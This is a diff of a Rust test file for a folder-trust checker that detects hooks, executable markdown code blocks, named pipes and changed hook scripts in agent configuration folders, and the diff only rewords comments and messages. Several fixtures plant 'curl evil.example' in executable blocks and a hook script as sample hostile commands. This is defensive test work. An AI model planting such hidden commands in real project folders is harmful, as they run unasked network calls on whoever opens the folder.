@@ -1,4 +1,4 @@
-//! Folders: which may be used, and which bring commands of their own.
+//! Folders: which are allowed, and which need trust because of their commands.
 
 use std::fs;
 use std::path::{Path, PathBuf};
@@ -54,12 +54,12 @@ fn t10_f120_whatever_a_folder_would_run_is_found() {
         ),
         (".claude/agents/a.md", "---\nname: a\nhooks:\n  Stop: []\n---\n", "line 3"),
         (".claude/skills/s/SKILL.md", "---\nallowed-tools: Bash\n---\n", "line 2"),
-        // Blocks of commands run as well.
+        // Code blocks that run.
         (".claude/skills/s/SKILL.md", "Look:\n```!\ncurl evil.example\n```\n", "line 2"),
         (".claude/skills/s/SKILL.md", "- look:\n  ````! bash\n  true\n  ````\n", "line 2"),
         (".claude/commands/go.md", "Look: ```!curl evil.example```\n", "line 1"),
         (".claude/commands/go.md", "~~~ !\ncurl evil.example\n~~~\n", "line 1"),
-        // Whatever stands before a front matter that is one for the agent, and however it is spelt.
+        // Front matter after a byte order mark or blank lines, and in unusual spellings.
         (".claude/agents/a.md", "\u{feff}---\nhooks:\n  Stop: []\n---\n", "line 2"),
         (".claude/agents/a.md", "\n---\nhooks:\n  Stop: []\n---\n", "line 3"),
         (".claude/agents/a.md", "---\n{name: a, hooks: {Stop: []}}\n---\n", "line 2"),
@@ -77,7 +77,7 @@ fn t10_f120_whatever_a_folder_would_run_is_found() {
     }
 }
 
-/// To open a pipe is to wait until somebody writes into it, and an archive can bring one.
+/// Opening a pipe blocks until it is written to, and an archive can contain one.
 #[cfg(unix)]
 #[test]
 fn t10_a_pipe_in_a_folder_is_found_and_not_waited_for() {
@@ -93,7 +93,7 @@ fn t10_a_pipe_in_a_folder_is_found_and_not_waited_for() {
             panic!("{name} is waited for");
         };
         let files: Vec<&str> = found.commands.iter().map(|found| found.file.as_str()).collect();
-        assert_eq!(files, [name], "nobody can say what comes out of it");
+        assert_eq!(files, [name], "the file cannot be inspected");
     }
     let folder = tempfile::tempdir().unwrap();
     fs::create_dir_all(folder.path().join(".mcp.json")).unwrap();
@@ -169,7 +169,7 @@ async fn t10_trust_is_for_what_was_shown_and_ends_with_the_next_change() {
     );
     assert!(server.auth.trust().look(folder.path()).unwrap().1);
 
-    // The command is the same, and the script that it runs is another.
+    // The command is the same, but the script that it runs has changed.
     write(folder.path(), ".claude/hooks/a.sh", "curl evil.example");
     assert!(!server.auth.trust().look(folder.path()).unwrap().1);
     write(folder.path(), ".claude/hooks/a.sh", "true");
@@ -181,7 +181,7 @@ async fn t10_trust_is_for_what_was_shown_and_ends_with_the_next_change() {
     assert_eq!(withdrawn.json()["trusted"], false);
 }
 
-/// Whoever is limited to folders agrees to nothing in another one, and does not learn what there is.
+/// An admin that is limited to folders cannot trust another folder, nor learn whether it exists.
 #[tokio::test]
 async fn t10_a_credential_for_a_folder_sees_and_changes_no_trust_elsewhere() {
     let server = Guarded::new();
@@ -224,7 +224,7 @@ async fn t10_a_credential_for_a_folder_sees_and_changes_no_trust_elsewhere() {
             );
         }
     }
-    assert!(server.auth.trust().look(&root.join("theirs")).unwrap().1, "nobody has taken it back");
+    assert!(server.auth.trust().look(&root.join("theirs")).unwrap().1, "the trust was not withdrawn");
 }
 
 #[test]
